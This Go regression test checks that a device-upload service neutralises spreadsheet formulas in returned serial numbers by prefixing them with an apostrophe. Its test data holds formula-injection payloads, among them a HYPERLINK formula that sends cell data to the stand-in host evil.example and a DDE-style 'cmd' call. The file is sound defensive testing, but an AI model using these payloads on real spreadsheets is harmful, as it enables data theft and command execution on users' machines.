package devices_test

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// REGRESSION: a failed row's serial came back verbatim in the
// failures listing, so spreadsheet formulas (=HYPERLINK(...), +cmd|...)
// ran when an operator exported the listing to a spreadsheet. A value
// starting with = + - @ (or tab, CR) is returned with a leading '.
func TestFailureListingNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	v := newEnv(t, false)
	csv := "device_sn,target_agent_id\n" +
		`"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",agent-1` + "\n" +
		`"+cmd|' /C calc'!A0",agent-1` + "\n" +
		"-2+3,agent-1\n" +
		"@SUM(1+1),agent-1\n" +
		"SN-ok=1,agent-1\n"
	_, id := v.upload(t, "user-1", "upload-formula-01", csv)
	require.NoError(t, v.worker(t, "w").Process(t.Context(), id))

	p := v.failures(t, "user-1", id, 1, 50)
	got := map[int]string{}
	for _, it := range p.Items {
		got[it.RowNo] = it.DeviceSN
	}
	require.Equal(t, map[int]string{
		2: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		3: `'+cmd|' /C calc'!A0`,
		4: "'-2+3",
		5: "'@SUM(1+1)",
		6: "SN-ok=1",
	}, got)
}
